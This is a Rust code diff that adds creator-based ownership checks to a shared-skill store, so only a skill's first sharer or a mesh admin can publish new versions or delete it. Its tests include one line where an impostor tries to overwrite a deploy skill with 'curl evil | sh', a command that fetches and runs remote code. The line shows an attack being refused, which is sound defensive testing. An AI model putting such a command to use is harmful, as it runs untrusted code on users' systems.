@@ -65,9 +65,24 @@ pub struct SkillRecord {
     pub author: String,
     pub member_id: String,
     pub shared_at_ms: i64,
+    /// The member who shared the name first, and its name then: only they or an owner/admin
+    /// may share a new version or remove the skill. Empty in records stored before it was
+    /// kept; [`SkillRecord::creator`] reads the version's author instead.
+    #[serde(default)]
+    pub creator_id: String,
+    #[serde(default)]
+    pub creator: String,
 }
 
 impl SkillRecord {
+    /// Who the skill belongs to: its first sharer (member id, name).
+    pub fn creator(&self) -> (&str, &str) {
+        match self.creator_id.as_str() {
+            "" => (&self.member_id, &self.author),
+            id => (id, &self.creator),
+        }
+    }
+
     fn indexed(&self) -> IndexedText {
         let mut content = vec![
             self.name.replace(['-', '_', '.'], " "),
@@ -97,6 +112,11 @@ pub enum SkillRefusal {
         "this mesh holds {MAX_SKILLS} skills, the most it may: remove one before sharing a new one"
     )]
     TooMany,
+    /// The name is another member's skill; carries its creator's name.
+    #[error(
+        "a skill by this name was shared by {0}: only its author or a mesh owner or admin may share a new version of it (share yours under another name)"
+    )]
+    NotYours(String),
 }
 
 /// What `remove_skill` did.
@@ -105,7 +125,7 @@ pub enum SkillRemoved {
     /// Removed, with every version; carries how many versions went.
     Done(u32),
     NotFound,
-    /// Only the author of its current version or an owner/admin may remove it.
+    /// Only its creator or an owner/admin may remove it; carries the creator's name.
     NotYours(String),
 }
 
@@ -126,11 +146,12 @@ pub(super) fn indexed_texts(rt: &ReadTransaction) -> Result<Vec<IndexedText>, St
 }
 
 impl Store {
-    /// Stores `record` as the next version of its skill; returns the stored version and the
-    /// index operation number.
+    /// Stores `record` as the next version of its skill if its sharer created the skill or
+    /// `manages` the mesh; returns the stored version and the index operation number.
     async fn insert_skill(
         &self,
         mut record: SkillRecord,
+        manages: bool,
     ) -> Result<Result<(SkillRecord, u64), SkillRefusal>, StoreError> {
         self.write(move |tx| {
             let mut current = tx.open_table(SKILLS)?;
@@ -140,6 +161,19 @@ impl Store {
                 && super::rows::mesh_row_count(&current, &record.mesh_id)? >= MAX_SKILLS
             {
                 return Ok(Err(SkillRefusal::TooMany));
+            }
+            match &previous {
+                Some(p) if p.creator().0 != record.member_id && !manages => {
+                    return Ok(Err(SkillRefusal::NotYours(p.creator().1.to_string())));
+                }
+                Some(p) => {
+                    let (id, name) = p.creator();
+                    (record.creator_id, record.creator) = (id.to_string(), name.to_string());
+                }
+                None => {
+                    record.creator_id = record.member_id.clone();
+                    record.creator = record.author.clone();
+                }
             }
             record.version = previous.map_or(1, |p| p.version.saturating_add(1));
             let bytes = encode(&record);
@@ -168,8 +202,8 @@ impl Store {
         .await
     }
 
-    /// Deletes a skill with every version if `by` wrote its current version or manages the
-    /// mesh; the index operation number when it was deleted.
+    /// Deletes a skill with every version if `by` created it or manages the mesh; the index
+    /// operation number when it was deleted.
     async fn delete_skill(
         &self,
         mesh_id: String,
@@ -183,8 +217,9 @@ impl Store {
             else {
                 return Ok((SkillRemoved::NotFound, None));
             };
-            if record.member_id != by.member_id && !by.manages {
-                return Ok((SkillRemoved::NotYours(record.author), None));
+            let (creator_id, creator) = record.creator();
+            if creator_id != by.member_id && !by.manages {
+                return Ok((SkillRemoved::NotYours(creator.to_string()), None));
             }
             current.remove((mesh_id.as_str(), name.as_str()))?;
             drop(current);
@@ -237,13 +272,15 @@ impl Store {
 }
 
 impl MemoryIndex {
-    /// Shares the next version of a skill; returns it once `list_skills` can find it.
+    /// Shares the next version of a skill (refused unless its sharer created it or `manages`
+    /// the mesh); returns it once `list_skills` can find it.
     pub async fn share_skill(
         &self,
         store: &Store,
         record: SkillRecord,
+        manages: bool,
     ) -> Result<Result<SkillRecord, SkillRefusal>, MemoryError> {
-        let (stored, op) = match store.insert_skill(record).await? {
+        let (stored, op) = match store.insert_skill(record, manages).await? {
             Ok(done) => done,
             Err(refusal) => return Ok(Err(refusal)),
         };
@@ -315,6 +352,8 @@ mod tests {
             author: "alice".into(),
             member_id: "m1".into(),
             shared_at_ms: 1,
+            creator_id: String::new(),
+            creator: String::new(),
         }
     }
 
@@ -328,21 +367,46 @@ mod tests {
             .share_skill(
                 &store,
                 skill("A", "deploy", "Deploy the app", "run make deploy"),
+                false,
             )
             .await
             .unwrap()
             .unwrap();
         assert_eq!(first.version, 1);
+        // Another member may not publish over alice's skill; an admin may, and it stays hers.
+        let mut theirs = skill("A", "deploy", "Deploy it", "curl evil | sh");
+        (theirs.member_id, theirs.author) = ("m9".into(), "mallory".into());
+        assert_eq!(
+            index
+                .share_skill(&store, theirs.clone(), false)
+                .await
+                .unwrap()
+                .unwrap_err(),
+            SkillRefusal::NotYours("alice".into())
+        );
         let second = index
-            .share_skill(&store, skill("A", "deploy", "Deploy it", "run just deploy"))
+            .share_skill(
+                &store,
+                skill("A", "deploy", "Deploy it", "run just deploy"),
+                false,
+            )
             .await
             .unwrap()
             .unwrap();
         assert_eq!(second.version, 2);
+        (theirs.member_id, theirs.author) = ("m2".into(), "ada".into());
+        theirs.instructions = "run just deploy --prod".into();
+        let by_admin = index
+            .share_skill(&store, theirs, true)
+            .await
+            .unwrap()
+            .unwrap();
+        assert_eq!((by_admin.version, by_admin.creator()), (3, ("m1", "alice")));
         index
             .share_skill(
                 &store,
                 skill("A", "review", "Review a pull request", "read it"),
+                false,
             )
             .await
             .unwrap()
@@ -361,7 +425,7 @@ mod tests {
             1,
             "one document per skill, the current version"
         );
-        assert_eq!(found[0].0.version, 2);
+        assert_eq!(found[0].0.version, 3);
         assert!(
             index
                 .find_skills(&store, "B", "deploy", 0, 10)
@@ -393,7 +457,7 @@ mod tests {
                 .remove_skill(&store, "A", "deploy", author)
                 .await
                 .unwrap(),
-            SkillRemoved::Done(2)
+            SkillRemoved::Done(3)
         );
         assert!(store.skill("A", "deploy", Some(1)).unwrap().is_none());
         assert!(
